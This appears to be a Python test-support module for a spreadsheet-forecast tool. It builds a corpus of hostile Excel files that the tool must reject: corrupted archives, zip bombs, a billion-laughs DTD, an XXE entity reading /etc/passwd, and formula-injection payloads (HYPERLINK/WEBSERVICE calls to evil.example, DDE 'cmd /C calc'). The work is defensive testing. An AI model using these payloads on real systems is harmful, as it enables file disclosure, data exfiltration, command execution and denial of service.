"""The hostile corpus: every kind of broken or malicious submission issue 8 names, built
from the project's own templates by code (no binary blob that cannot be regenerated).

:func:`build_corpus` writes the files into a folder and returns what each must yield
(:class:`Expect`: the rule and words of its one finding). Used by tests/test_hostile.py
and the fuzz tests; ``python -m tests.hostile DIR`` writes it for a look by hand.

Zip parts are assembled by hand where a library would refuse (a bomb whose sizes are
declared honestly or falsely, damaged archives); the 1904 workbook is written by
XlsxWriter with ``date_1904``; the encrypted one by msoffcrypto-tool (ECMA-376 agile
encryption, as Excel does); the legacy .xls is a minimal OLE compound file.
"""
from __future__ import annotations

import datetime as dt
import os
import re
import signal
import subprocess
import struct
import sys
import time
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from unittest import mock

from kamxl.methodology import default_config
from kamxl.rollup.sample import write_forecast
from kamxl.schema import TEMPLATES
from kamxl.templates.builder import build_workbook
from tests.content import TODAY, clean_funnel  # TODAY: the corpus's date, for its users too

GIB = 2**30


@dataclass(frozen=True)
class Expect:
    """What a file must yield: ``rule`` and words of its message (en), or, for a file that
    reads normally, the findings of its clean twin (``same_as``) plus ``extra`` ones."""

    rule: str | None = None
    words: str = ""
    same_as: str | None = None
    extra: tuple[tuple[str, str], ...] = ()     # (rule, cell) found on top of the twin's


# --- content -----------------------------------------------------------------------------------------
def build(path: Path, name: str, content: dict[str, Any], lang: str = "en", **options: Any) -> Path:
    rows = {k: v for k, v in content.items() if isinstance(v, list)}
    forms = {k: v for k, v in content.items() if isinstance(v, dict)}
    if options:       # XlsxWriter options the builder does not offer (date_1904): added to its constructor's
        import xlsxwriter

        real = xlsxwriter.Workbook
        with mock.patch("kamxl.templates.builder.xlsxwriter.Workbook",
                        lambda filename, opts: real(filename, {**opts, **options})):
            return build_workbook(TEMPLATES[name], path, lang=lang, rows=rows, forms=forms)
    return build_workbook(TEMPLATES[name], path, lang=lang, rows=rows, forms=forms)


# --- zip by hand -------------------------------------------------------------------------------------
def parts_of(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as z:
        return {n: z.read(n) for n in z.namelist()}


def write_parts(path: Path, parts: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def deflate(data: bytes) -> bytes:
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    return c.compress(data) + c.flush()


def deflate_repeated(prefix: bytes, chunk: bytes, times: int, suffix: bytes) -> tuple[bytes, int]:
    """Raw deflate of ``prefix + chunk * times + suffix`` without compressing every copy:
    after a full flush the compressor starts afresh, so each copy compresses to the same
    bytes. Returns the stream and its unpacked size."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(prefix) + c.flush(zlib.Z_FULL_FLUSH)
    one = c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH)
    assert c.compress(chunk) + c.flush(zlib.Z_FULL_FLUSH) == one
    tail = c.compress(suffix) + c.flush(zlib.Z_FINISH)
    return head + one * times + tail, len(prefix) + len(chunk) * times + len(suffix)


def write_raw_zip(path: Path, entries: list[tuple[str, bytes, int, int]]) -> Path:
    """A zip from (name, raw deflate, crc32, declared unpacked size): sizes as we say."""
    out, central = bytearray(), bytearray()
    for name, raw, crc, size in entries:
        encoded, offset = name.encode(), len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(raw), size, len(encoded), 0)
        out += encoded + raw
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(raw), size,
                               len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    start = len(out)
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), start, 0)
    path.write_bytes(bytes(out))
    return path


def bomb(path: Path, base: Path, *, unpacked: int, declared: int | None) -> Path:
    """``base`` whose shared strings hold one string of ``unpacked`` bytes, declared as
    ``declared`` bytes (None: honestly). The CRC is left 0: no reader gets that far."""
    entries = []
    for name, data in parts_of(base).items():
        if name == "xl/sharedStrings.xml":
            prefix = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.'
                      b'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
            raw, size = deflate_repeated(prefix, b"A" * 2**20, unpacked // 2**20, b"</t></si></sst>")
            entries.append((name, raw, 0, size if declared is None else declared))
        else:
            entries.append((name, deflate(data), zlib.crc32(data), len(data)))
    return write_raw_zip(path, entries)


# --- an OLE compound file (legacy .xls) ---------------------------------------------------------------
def ole_file(path: Path, streams: dict[str, bytes]) -> Path:
    """A minimal compound file (v3, 512-byte sectors, no mini stream: streams of 4 KB or
    more): one FAT sector, one directory sector, then the streams' sectors."""
    end, free, fat_sector, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    assert len(streams) <= 3
    data, fat, directory = bytearray(), [fat_sector, end], []
    entries = [("Root Entry", 5, end, 0)]
    sector = 2
    for name, body in streams.items():
        body = body.ljust(max(4096, -(-len(body) // 512) * 512), b"\0")
        count = len(body) // 512
        fat += list(range(sector + 1, sector + count)) + [end]
        entries.append((name, 2, sector, len(body)))
        data += body
        sector += count
    assert len(fat) <= 128
    fat += [free] * (128 - len(fat))
    for i, (name, kind, start, size) in enumerate(entries):
        encoded = (name + "\0").encode("utf-16-le")
        child = 1 if kind == 5 and len(entries) > 1 else nostream
        right = i + 1 if kind == 2 and i + 1 < len(entries) else nostream
        directory.append(encoded.ljust(64, b"\0") + struct.pack("<HBBIII16sIQQIQ", len(encoded), kind, 1, nostream,
                                                                 right, child, b"", 0, 0, 0, start, size))
    directory += [b"\0" * 64 + struct.pack("<HBBIII16sIQQIQ", 0, 0, 0, nostream, nostream, nostream, b"", 0, 0, 0,
                                           0, 0)] * (4 - len(directory))
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16
              + struct.pack("<HHHHH6sIIIIIIIII", 0x3E, 3, 0xFFFE, 9, 6, b"", 0, 1, 1, 0, 4096, end, 0, end, 0)
              + struct.pack("<I", 0) + struct.pack("<108I", *[free] * 108))
    path.write_bytes(header + struct.pack("<128I", *fat) + b"".join(directory) + bytes(data))
    return path


# --- the corpus ---------------------------------------------------------------------------------------
def build_corpus(folder: Path, *, slow_rows: int = 200_000) -> dict[str, Expect]:
    """Write every hostile file into ``folder`` (created); name -> what it must yield.

    Besides these files, tests make the rest of issue 8's list where it happens: a file
    that disappears mid-run, a read-only output folder, an output written twice at once,
    a kill mid-write."""
    folder.mkdir(parents=True, exist_ok=True)
    expect: dict[str, Expect] = {}
    clean = build(folder / "clean.xlsx", "funnel", clean_funnel())
    expect["clean.xlsx"] = Expect(same_as="clean.xlsx")
    parts = parts_of(clean)
    raw = clean.read_bytes()

    # damaged packages
    (folder / "corrupt.xlsx").write_bytes(raw[:-200] + bytes(b ^ 0x5A for b in raw[-200:]))
    expect["corrupt.xlsx"] = Expect("S-UNREADABLE", "damaged or incomplete")
    sheet = parts["xl/worksheets/sheet1.xml"]
    with zipfile.ZipFile(folder / "corrupt-data.xlsx", "w", zipfile.ZIP_STORED) as z:   # stored: bytes as they are
        for name, data in parts.items():
            z.writestr(name, data)
    damaged = bytearray((folder / "corrupt-data.xlsx").read_bytes())
    at = damaged.find(sheet[2000:2040])
    damaged[at:at + 64] = bytes(b ^ 0xFF for b in damaged[at:at + 64])
    (folder / "corrupt-data.xlsx").write_bytes(bytes(damaged))      # the CRC no longer matches
    expect["corrupt-data.xlsx"] = Expect("S-UNREADABLE", "cannot read this file")
    (folder / "truncated.xlsx").write_bytes(raw[: len(raw) // 2])
    expect["truncated.xlsx"] = Expect("S-UNREADABLE", "damaged or incomplete")
    (folder / "empty.xlsx").write_bytes(b"")
    expect["empty.xlsx"] = Expect("S-UNREADABLE", "not a valid Excel file")

    # other files under a workbook's name
    (folder / "notes.xlsx").write_text("Q4 forecast: see the attached file\n", encoding="utf-8")
    expect["notes.xlsx"] = Expect("S-UNREADABLE", "not a valid Excel file")
    (folder / "scan.xlsx").write_bytes(b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << >>\n%%EOF\n")
    expect["scan.xlsx"] = Expect("S-UNREADABLE", "not a valid Excel file")

    # password, legacy and binary formats
    encrypt(clean, folder / "password.xlsx", "kam-secret")
    expect["password.xlsx"] = Expect("S-UNREADABLE", "password protected")
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06)
    ole_file(folder / "legacy.xls", {"Workbook": bof})
    expect["legacy.xls"] = Expect("S-UNREADABLE", "legacy .xls")
    ole_file(folder / "legacy-renamed.xlsx", {"Workbook": bof})
    expect["legacy-renamed.xlsx"] = Expect("S-UNREADABLE", "legacy .xls")
    xlsb = {"[Content_Types].xml": parts["[Content_Types].xml"], "_rels/.rels": parts["_rels/.rels"],
            "xl/workbook.bin": b"\x83\x01\x00" + b"\0" * 64}
    write_parts(folder / "binary.xlsb", xlsb)
    expect["binary.xlsb"] = Expect("S-UNREADABLE", ".xlsb")
    write_parts(folder / "binary-renamed.xlsx", xlsb)
    expect["binary-renamed.xlsx"] = Expect("S-UNREADABLE", ".xlsb")

    # zip bombs: 3 GiB of shared strings in 3 MB
    bomb(folder / "bomb.xlsx", clean, unpacked=3 * GIB, declared=None)
    expect["bomb.xlsx"] = Expect("S-FILE-TOO-LARGE", "possibly a zip bomb")
    bomb(folder / "bomb-lying.xlsx", clean, unpacked=3 * GIB, declared=len(parts["xl/sharedStrings.xml"]))
    expect["bomb-lying.xlsx"] = Expect("S-UNREADABLE", "cannot read this file")

    # XML attacks
    laughs = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
              + b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
                         for i in range(1, 10)) + b"]>")
    book = parts["xl/workbook.xml"].split(b"?>", 1)[1].lstrip()
    write_parts(folder / "laughs.xlsx", {**parts, "xl/workbook.xml": laughs + book.replace(
        b'name="Opportunities"', b'name="&lol9;"', 1)})
    expect["laughs.xlsx"] = Expect("S-UNREADABLE", "xl/workbook.xml declares a DTD")
    strings = parts["xl/sharedStrings.xml"].split(b"?>", 1)[1].lstrip()
    xxe = b'<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    write_parts(folder / "xxe.xlsx", {**parts, "xl/sharedStrings.xml": xxe + strings.replace(b"<t>", b"<t>&xxe;", 1)})
    expect["xxe.xlsx"] = Expect("S-UNREADABLE", "xl/sharedStrings.xml declares a DTD")

    # sheets that claim, or hold, the whole grid
    claim = {n: re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', d) if "worksheets/s" in n
             else d for n, d in parts.items()}
    write_parts(folder / "claims-everything.xlsx", claim)
    expect["claims-everything.xlsx"] = Expect(same_as="clean.xlsx")
    stray = sheet.replace(b"</sheetData>", b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>')
    write_parts(folder / "stray-cell.xlsx", {**parts, "xl/worksheets/sheet1.xml": stray})
    expect["stray-cell.xlsx"] = Expect("S-FILE-MEMORY", "memory allowed per file")
    slow_table(folder / "huge-table.xlsx", parts, rows=slow_rows)
    expect["huge-table.xlsx"] = Expect("S-FILE-TIMEOUT", "allowed per file")

    # odd but legitimate: 1904 dates, merged and hidden cells, error values
    build(folder / "dates-1904.xlsx", "funnel", clean_funnel(), date_1904=True)
    expect["dates-1904.xlsx"] = Expect(same_as="clean.xlsx")
    merged_hidden(folder / "merged-hidden.xlsx", clean)
    expect["merged-hidden.xlsx"] = Expect(same_as="clean.xlsx", extra=(("S-VALUE-REQUIRED", "B7"),))
    # I6 the currency (a required input), J6 the probability (a formula)
    errors = re.sub(rb'(<c r="I6"[^>]*?)(?: t="\w+")?>(?:<v>[^<]*</v>)?</c>', rb'\1 t="e"><v>#N/A</v></c>', sheet)
    errors = re.sub(rb'(<c r="J6"[^>]*?)(?: t="\w+")?>(<f>.*?</f>)(?:<v>[^<]*</v>)?</c>', rb'\1 t="e">\2<v>#DIV/0!</v></c>',
                    errors)
    assert errors.count(b't="e"') == 2, "the error cells were not placed"
    write_parts(folder / "error-values.xlsx", {**parts, "xl/worksheets/sheet1.xml": errors})
    expect["error-values.xlsx"] = Expect(same_as="clean.xlsx", extra=(("S-VALUE-REQUIRED", "I6"),))

    # folder furniture: Excel's lock file, symbolic link loops
    (folder / "~$clean.xlsx").write_bytes(b"\x0bkamxl user" + b"\0" * 150)
    expect["~$clean.xlsx"] = Expect("S-SKIPPED", "lock file")
    if hasattr(os, "symlink"):
        os.symlink(".", folder / "loop")                    # a folder inside itself
        os.symlink("self.xlsx", folder / "self.xlsx")       # a link to itself
        expect["loop"] = Expect("S-SKIPPED", "symbolic link loop")
        expect["self.xlsx"] = Expect("S-SKIPPED", "symbolic link loop")
    return expect


def encrypt(source: Path, target: Path, password: str) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    with source.open("rb") as plain, target.open("wb") as out:
        OOXMLFile(plain).encrypt(password, out)
    return target


def slow_table(path: Path, parts: dict[str, bytes], *, rows: int) -> Path:
    """The clean funnel with ``rows`` more opportunities (copies of the first, written as
    Excel may: rows and cells without their optional ``r`` attribute), so reading and
    checking it takes seconds; a few hundred KB packed."""
    sheet = parts["xl/worksheets/sheet1.xml"]
    first = re.search(rb'<row r="6".*?</row>', sheet).group()
    row = re.sub(rb' r="[A-Z]+6"', b"", first.replace(b'<row r="6"', b"<row", 1))
    head, tail = sheet.split(b"</sheetData>")
    table = parts["xl/tables/table1.xml"]
    last = int(re.search(rb'ref="A5:([A-Z]+)(\d+)"', table).group(2))
    table = re.sub(rb'ref="A5:([A-Z]+)\d+"', lambda m: b'ref="A5:%s%d"' % (m.group(1), last + rows), table)
    entries = []
    for name, data in parts.items():
        if name == "xl/worksheets/sheet1.xml":
            block = row * 100           # a block of rows compresses far better than one row alone
            raw, size = deflate_repeated(head, block, rows // 100, b"</sheetData>" + tail)
            entries.append((name, raw, zlib.crc32(head + block * (rows // 100) + b"</sheetData>" + tail), size))
        else:
            data = table if name == "xl/tables/table1.xml" else data
            entries.append((name, deflate(data), zlib.crc32(data), len(data)))
    return write_raw_zip(path, entries)


def merged_hidden(path: Path, clean: Path) -> Path:
    """Customer cells B6:B7 merged (B7's value is gone under the merge, as in Excel),
    row 8 and column C hidden: hidden cells are validated like any other."""
    import openpyxl

    book = openpyxl.load_workbook(clean)
    ws = book["Opportunities"]
    ws.merge_cells("B6:B7")
    ws.row_dimensions[8].hidden = True
    ws.column_dimensions["C"].hidden = True
    book.save(path)
    return path


# --- forecasts whose text fields carry formula payloads ----------------------------------------------
PAYLOADS = ("=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=WEBSERVICE(\"http://evil.example\")")


def payload_forecasts(folder: Path, *, benign: bool = False, lang: str = "en") -> list[Path]:
    """Two reps' forecasts whose customers, notes and some opportunity ids start with a
    formula payload (``benign``: the same files with plain text instead)."""
    files = []
    for n, owner in enumerate(("Alice Wang", "Bob Li")):
        files.append(write_forecast(folder / f"forecast-{n}.xlsx", owner=owner, manager="Carol Zhang",
                                    lines=forecast_lines(owner, n, benign=benign, lang=lang), lang=lang,
                                    submitted=dt.date(2026, 11, 20), quota=1_000_000.0))
    return files


def forecast_lines(owner: str, n: int, *, benign: bool, lang: str = "en") -> list[dict[str, Any]]:
    """Six confirmed commit lines of ``owner``; text fields carry a payload unless ``benign``."""
    stage = default_config().stages[4].label(lang)
    lines = []
    for i in range(6):
        text = f"plain text {i}" if benign else PAYLOADS[(i + n) % len(PAYLOADS)]
        lines.append({"opportunity_id": f"OPP-{n}{i}" if benign or i % 2 else f"-{n}{i}", "customer": text,
                      "owner": owner, "confirmed": "Y", "stage": stage, "status": "Open", "category": "Commit",
                      "amount": 100_000.0 * (i + 1), "close_date": dt.date(2026, 12, 15),
                      "owner_forecast": 100_000.0 * (i + 1), "adjustment_note": text, "adjusted_by": text})
    return lines


if __name__ == "__main__":  # pragma: no cover
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for file, expected in build_corpus(target).items():
        print(f"{file:28} {expected}")


def kill_while_writing(proc: subprocess.Popen[bytes], folder: Path, *, timeout: float = 120) -> bool:
    """SIGKILL ``proc`` as soon as one of its temporary outputs in ``folder`` holds bytes
    (the package is being written); False when it finished first."""
    from kamxl.io.atomic import TEMP_PREFIX

    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and proc.poll() is None:
        temps = [p for p in folder.iterdir() if p.name.startswith(TEMP_PREFIX)]
        if temps and max(p.stat().st_size for p in temps) > 0:
            proc.send_signal(signal.SIGKILL)
            proc.wait(30)
            return True
        time.sleep(0.001)
    proc.wait(30)
    return False
